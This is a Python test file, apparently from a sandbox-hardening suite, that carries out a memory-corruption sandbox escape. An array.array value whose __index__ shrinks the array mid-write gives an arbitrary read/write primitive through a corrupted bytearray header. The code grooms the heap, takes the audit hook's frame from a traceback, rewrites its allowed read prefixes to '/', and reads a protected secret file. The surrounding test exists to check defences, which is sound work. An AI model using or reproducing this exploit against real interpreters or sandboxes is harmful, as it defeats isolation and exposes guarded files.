# expect: ok
# expect-kernel: ok|crashed|memory_limit
# value: 1
# `array.array` stores an item by asking the value for its number (`__index__`, `__float__`) after it has checked the
# index against the array's size, and writes at that index into whatever buffer the array holds by then: a value of
# the code's own that shrinks the array from its `__index__` makes the write land past the new, smaller buffer, in
# the block that follows it (`a[i] = v`, and `append`, `insert`, `extend`, `fromlist`, which convert each value after
# the array grew). With an index and a value of the code's own, that is a write of 8 chosen bytes at a chosen offset
# past a freed-and-reused block: here a bytearray header's data pointer, so any address is read and written, with no
# audit event. From there the hook's frozen read prefixes (the frame of a refusal it makes unreported hands them out)
# gain "/", and the secret file is read where the hook is what guards it. With the hook the value is converted before
# anything of the array is written, and the array is never resized under a write (1); without it native code is
# assumed anyway (the crash, or 1).
import os
from array import array

HELD = []  # every bytearray the write could land on, kept for good
START = 40  # a bytearray header's data start pointer (refcount, type, size, allocated, bytes, start, exports)


class Shrinker:
    """A value whose number is asked for after the index was checked: it shrinks the array first."""

    def __init__(self, target, number):
        self.target, self.number = target, number

    def __index__(self):
        del self.target[1:]  # 32 items of 8 bytes become one: the buffer moves to a 64-byte block
        return self.number

    def __float__(self):
        del self.target[1:]
        return 0.0


def store(how, target, at, value):
    if how == "item":
        target[at] = value
    elif how == "insert":
        target.insert(at, value)
    elif how == "extend":
        del target[at:]  # the value lands at `at` once the array grew back
        target.extend([value])
    else:
        del target[at:]
        target.fromlist([value])


def window(marker):
    """A bytearray whose data pointer was set to another one's (`marker`'s) header, and that one: any address."""
    for how in ("item", "insert", "extend", "fromlist"):
        for _ in range(30):
            target = array("q", bytes(8 * 32))
            victims = [bytearray(b"v" * 16) for _ in range(256)]
            HELD.append(victims)
            ids = {id(victim): k for k, victim in enumerate(victims)}
            holes = [k for k in range(100, 200, 3) if id(victims[k]) + 64 in ids and id(victims[k]) + 128 in ids]
            for k in holes[:-1] + holes[-1:]:  # holes in the pool of 64-byte blocks, the last one's next two live headers
                victims[k] = None
            try:
                store(how, target, 16 + START // 8, Shrinker(target, id(marker) + 32))
            except Exception:
                return None
            for victim in victims:
                # the marker's own and start pointers, alike
                if victim is not None and bytes(victim) != b"v" * 16 and victim[0:8] == victim[8:16]:
                    return victim, marker
    return None


def hook_frame():
    """The hook's frame, from a refusal it makes without a report (a hard link in the scratch)."""
    with open("a", "w"):
        pass
    try:
        os.link("a", "b")
    except OSError as exc:
        tb = exc.__traceback__
        while tb is not None:
            if tb.tb_frame.f_code.co_name == "hook":
                return tb.tb_frame
            tb = tb.tb_next
    return None


def check(secret_file, **p):
    frame = hook_frame()
    marker = bytearray(b"m" * 16)
    found = window(marker)
    if found is None:
        return 1
    if frame is None:  # no hook here: native code is assumed anyway
        return 1
    pointer, target = found
    prefixes, root = frame.f_locals["read_prefixes"], "/"
    pointer[8:16] = (id(prefixes) + 24).to_bytes(8, "little")  # the marker now shows the prefixes' first item
    target[0:8] = id(root).to_bytes(8, "little")
    try:
        with open(secret_file) as fh:
            return "SANDBOX-ESCAPED an array resized under its own write: " + fh.read()
    except OSError:
        return "SANDBOX-ESCAPED raw memory with the hook running, through an array resized under its own write"
